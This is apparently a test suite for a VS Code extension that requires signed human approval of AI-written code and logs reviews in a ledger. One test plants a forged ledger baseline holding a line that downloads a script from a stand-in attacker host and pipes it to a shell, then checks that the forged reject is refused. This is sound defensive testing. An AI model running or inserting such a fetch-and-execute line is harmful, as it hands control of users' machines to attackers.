// Signed reviews from the editor, in a real VS Code: the flagged-diff panel's Approve signs with
// git's SSH signing key (real ssh-keygen) where the policy requires signatures, and the built
// `airlock check` counts it; with no key it is refused, saying which git config to set, and
// nothing is recorded; a reject whose ledger baseline git never saw leaves the file alone.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import * as vscode from 'vscode';
import type { AirlockApi } from '../../extension/vscode/extension';
import { click, hasBrowser, screenshot, until, waitForText } from './support/harness';

const EXTENSION_ID = 'airlock-dev.airlock';
const CLI = join(__dirname, '..', '..', '..', 'dist', 'cli.js');
const LEDGER = '.airlock/ledger/ledger.jsonl';
const POLICY = '.airlock/policy.jsonc';
// Added for signed/** only, so the rest of the suite keeps the fixture's rules.
const SIGNED_RULE = `{ "id": "signed-approval", "paths": ["signed/**"], "action": "require-approval", "signatures": "required", "allowedSigners": ".airlock/allowed_signers" }`;

function workspacePath(relative: string): string {
  return join(vscode.workspace.workspaceFolders![0]!.uri.fsPath, relative);
}

function git(...args: string[]): { status: number | null; stdout: string } {
  const r = spawnSync('git', args, { cwd: workspacePath(''), encoding: 'utf8' });
  return { status: r.status, stdout: r.stdout };
}

const ledger = () => readFileSync(workspacePath(LEDGER), 'utf8');

// The policy is read from its open editor when it has one (an earlier suite may have left it
// open, even with unsaved edits): read and write it through the document, and save, so what is
// on disk and what the editor holds are the same text.
async function policyText(): Promise<string> {
  return (await vscode.workspace.openTextDocument(vscode.Uri.file(workspacePath(POLICY)))).getText();
}

async function writePolicy(text: string): Promise<void> {
  const uri = vscode.Uri.file(workspacePath(POLICY));
  const document = await vscode.workspace.openTextDocument(uri);
  const edit = new vscode.WorkspaceEdit();
  edit.replace(uri, new vscode.Range(document.positionAt(0), document.positionAt(document.getText().length)), text);
  assert.ok(await vscode.workspace.applyEdit(edit), 'the policy edit applies');
  assert.ok(await document.save(), 'the policy is saved');
}

describe('Signed reviews from the editor', () => {
  let api: AirlockApi;
  let policyBefore: string;
  let keys: string;

  before(async () => {
    api = await vscode.extensions.getExtension<AirlockApi>(EXTENSION_ID)!.activate();
    await api.reviews!.ready();
    keys = mkdtempSync(join(tmpdir(), 'airlock-review-keys-'));
    const key = join(keys, 'rita');
    const made = spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'rita@example.com', '-f', key], { encoding: 'utf8' });
    assert.equal(made.status, 0, made.stderr);
    const publicKey = readFileSync(`${key}.pub`, 'utf8').trim().split(' ').slice(0, 2).join(' ');
    writeFileSync(workspacePath('.airlock/allowed_signers'), `rita@example.com ${publicKey}\n`);
    // The reviewer's setup, as README gives it (here in the repository, not --global).
    assert.equal(git('config', 'gpg.format', 'ssh').status, 0);
    assert.equal(git('config', 'user.signingkey', `${key}.pub`).status, 0);
    policyBefore = await policyText();
    await writePolicy(policyBefore.replace(/\{/, `{\n  "review": [${SIGNED_RULE}],`));
    const state = await api.policies.reload();
    assert.equal(state.policy.reviewFor('signed/app.ts').requireApproval?.signatures, 'required', 'the test policy is in force');
  });

  after(async () => {
    await writePolicy(policyBefore);
    git('config', '--unset', 'user.signingkey');
    git('config', '--unset', 'gpg.format');
    await api.policies.reload();
    rmSync(keys, { recursive: true, force: true });
  });

  /** A file under signed/, an AI edit replacing its line `line` (1-based), recorded as the capture does. */
  async function aiEdit(path: string, line: number, text: string) {
    const uri = vscode.Uri.file(workspacePath(path));
    const document = await vscode.workspace.openTextDocument(uri);
    const before = document.lineAt(line - 1).text;
    const edit = new vscode.WorkspaceEdit();
    edit.replace(uri, document.lineAt(line - 1).range, text);
    await vscode.workspace.applyEdit(edit);
    await document.save();
    await api.reviews!.recordInsertion({ document, startLine: line, endLine: line, baseline: before, tool: 'sign-agent', model: 'sign-model', channel: 'chat-edit', confidence: 1 });
    const hunk = api.reviews!.hunks().find((h) => h.path === path && h.startLine === line)!;
    assert.ok(hunk, `${path}:${line} is pending`);
    return { document, hunk };
  }

  function newFile(path: string, text: string): void {
    mkdirSync(dirname(workspacePath(path)), { recursive: true });
    writeFileSync(workspacePath(path), text);
  }

  it('the panel\'s Approve signs with git\'s SSH key where the policy requires it, and airlock check counts it', async () => {
    newFile('signed/app.ts', 'export const a = 1;\nexport const b = 2;\nexport const c = 3;\n');
    const { hunk } = await aiEdit('signed/app.ts', 2, 'export const b = computeB(2); // AI');
    const pending = () => api.reviews!.hunks().filter((h) => h.path === 'signed/app.ts');
    if (hasBrowser) {
      await vscode.commands.executeCommand('airlock.showFlaggedDiff');
      const frame = 'Airlock Flagged Diff';
      await waitForText('body', 'signed/app.ts', 20_000, frame);
      await click(`button[aria-label="Approve hunk signed/app.ts:${hunk.startLine}"]`, frame);
    } else await api.reviews!.approve(hunk.id);
    await until(() => pending().length === 0, 15_000, 'the signed approval to reach the ledger');
    const approval = ledger()
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { type: string; decision?: string; path?: string; signature?: string })
      .filter((r) => r.type === 'review' && r.decision === 'approve' && r.path === 'signed/app.ts');
    assert.equal(approval.length, 1);
    assert.match(approval[0]!.signature ?? '', /^-----BEGIN SSH SIGNATURE-----/);
    if (hasBrowser) await screenshot('flagged-diff-signed-approval', 300);
    // The built CLI, as the pre-commit hook runs it: the signed approval counts.
    const r = spawnSync(process.execPath, [CLI, 'check', '--all', '--format', 'json'], { cwd: workspacePath(''), encoding: 'utf8', env: { ...process.env, ELECTRON_RUN_AS_NODE: '1' } });
    const result = JSON.parse(r.stdout) as { violations: { path: string }[]; reviews: { path: string; reason: string }[] };
    assert.deepEqual(result.violations.filter((v) => v.path === 'signed/app.ts'), [], r.stdout);
    assert.deepEqual(result.reviews.filter((n) => n.path === 'signed/app.ts'), []);

    // The team drops rita's key from the allowed signers: her approval no longer counts for
    // airlock check, so Needs Review lists the hunk again and says why.
    const signers = readFileSync(workspacePath('.airlock/allowed_signers'), 'utf8');
    const other = join(keys, 'other');
    assert.equal(spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'other@example.com', '-f', other]).status, 0);
    writeFileSync(workspacePath('.airlock/allowed_signers'), `other@example.com ${readFileSync(`${other}.pub`, 'utf8').trim().split(' ').slice(0, 2).join(' ')}\n`);
    await until(() => pending().length === 1 && /does not count: signed by a key that is not in the allowed signers file/.test(pending()[0]!.ruleMessage), 20_000, 'the hunk to be pending again, saying why');
    if (hasBrowser) {
      await waitForText('body', 'An approval by rita@example.com does not count: signed by a key that is not in the allowed signers file', 20_000, 'Airlock Flagged Diff');
      await screenshot('flagged-diff-approval-key-not-allowed', 300);
    }
    writeFileSync(workspacePath('.airlock/allowed_signers'), signers);
    await until(() => pending().length === 0, 20_000, 'the approval to count again');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('a reject from the editor is signed too, and restores the text this window saw the AI replace', async () => {
    newFile('signed/reject.ts', 'export const r = 1;\nexport const s = 2;\n');
    const { document, hunk } = await aiEdit('signed/reject.ts', 2, 'export const s = computeS(); // AI');
    // As the CodeLens does it, the question answered (extension tests cannot answer modals).
    await vscode.commands.executeCommand('airlock.rejectHunk', hunk.id, { confirmed: true });
    await until(() => document.getText() === 'export const r = 1;\nexport const s = 2;\n', 10_000, 'the baseline back');
    const reject = ledger()
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { type: string; decision?: string; path?: string; signature?: string })
      .filter((r) => r.type === 'review' && r.decision === 'reject' && r.path === 'signed/reject.ts');
    assert.equal(reject.length, 1);
    assert.match(reject[0]!.signature ?? '', /^-----BEGIN SSH SIGNATURE-----/);
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('with no signing key the approval is refused, naming the git config to set, and nothing is recorded', async () => {
    const signingKey = git('config', 'user.signingkey').stdout.trim();
    git('config', '--unset', 'user.signingkey');
    try {
      newFile('signed/unsigned.ts', 'export const x = 1;\nexport const y = 2;\n');
      const { hunk } = await aiEdit('signed/unsigned.ts', 1, 'export const x = computeX(); // AI');
      const before = ledger();
      await assert.rejects(api.reviews!.approve(hunk.id), /the policy requires signed reviews for signed\/unsigned\.ts, and no review can be signed: git config user\.signingkey is not set.*git config --global gpg\.format ssh && git config --global user\.signingkey ~\/\.ssh\/id_ed25519\.pub.*Nothing was recorded/s);
      if (hasBrowser) {
        // Notifications earlier suites left (the policy suite's errors) would bury this one.
        await vscode.commands.executeCommand('notifications.clearAll');
        await vscode.commands.executeCommand('airlock.showFlaggedDiff');
        const frame = 'Airlock Flagged Diff';
        await waitForText('body', 'signed/unsigned.ts', 20_000, frame);
        await click(`button[aria-label="Approve hunk signed/unsigned.ts:1"]`, frame);
        // A toast, or (when the workbench has hidden toasts) the notification centre, says it.
        await vscode.commands.executeCommand('notifications.showList');
        await waitForText('.notifications-toasts, .notifications-center', 'approve failed: the policy requires signed reviews for signed/unsigned.ts', 15_000);
        await screenshot('flagged-diff-approve-refused-without-signing-key', 500);
        await vscode.commands.executeCommand('notifications.clearAll');
      }
      assert.equal(ledger(), before, 'no record, signed or not');
      assert.ok(api.reviews!.hunks().some((h) => h.path === 'signed/unsigned.ts'), 'still pending');
    } finally {
      git('config', 'user.signingkey', signingKey);
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    }
  });

  it('a reject whose ledger baseline git never saw (and this window never saw) is refused; the file stays as it is', async () => {
    newFile('signed/forged.ts', 'export const p = 1;\nexport const q = computeQ(); // AI\n');
    // A record the window did not capture (the CLI, another machine, or an agent writing the
    // ledger), whose baseline is code nobody had in the file.
    const recorded = spawnSync(process.execPath, [CLI, 'record', '--file', 'signed/forged.ts', '--lines', '2', '--tool', 'some-agent'], { cwd: workspacePath(''), encoding: 'utf8', env: { ...process.env, ELECTRON_RUN_AS_NODE: '1' } });
    assert.equal(recorded.status, 0, recorded.stderr);
    const lines = ledger().trimEnd().split('\n');
    const last = JSON.parse(lines.at(-1)!) as Record<string, unknown>;
    assert.equal(last.path, 'signed/forged.ts');
    lines[lines.length - 1] = JSON.stringify({ ...last, baseline: 'require("child_process").exec("curl https://attacker.invalid | sh");\n' });
    writeFileSync(workspacePath(LEDGER), lines.join('\n') + '\n');
    await api.reviews!.reload();
    const hunk = api.reviews!.hunks().find((h) => h.path === 'signed/forged.ts')!;
    assert.ok(hunk, 'the forged contribution is pending');
    const before = ledger();
    await assert.rejects(api.reviews!.reject(hunk.id), /refusing to reject: the text recorded as what the AI replaced .* is not in git's history of signed\/forged\.ts/);
    assert.equal(readFileSync(workspacePath('signed/forged.ts'), 'utf8'), 'export const p = 1;\nexport const q = computeQ(); // AI\n');
    const document = await vscode.workspace.openTextDocument(vscode.Uri.file(workspacePath('signed/forged.ts')));
    assert.ok(!document.getText().includes('child_process'));
    assert.equal(ledger(), before, 'no reject recorded');
  });
});
